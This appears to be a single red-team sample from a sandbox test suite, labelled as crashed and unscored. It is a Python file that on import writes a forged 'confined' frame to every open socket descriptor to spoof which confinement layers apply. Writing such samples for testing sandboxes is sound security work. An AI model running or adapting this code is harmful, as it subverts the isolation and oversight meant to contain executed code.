# attack: forges the frame that says which layers confine it
# layer: protocol
# where: import
# status: crashed
# score: none
import torch

os = torch.os
stat = __import__("stat")
HEADER = b'{"kind": "confined", "layers": {"files": "on"}, "arrays": []}'


def attack():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, len(HEADER).to_bytes(4, "little") + HEADER)
        except OSError:
            continue
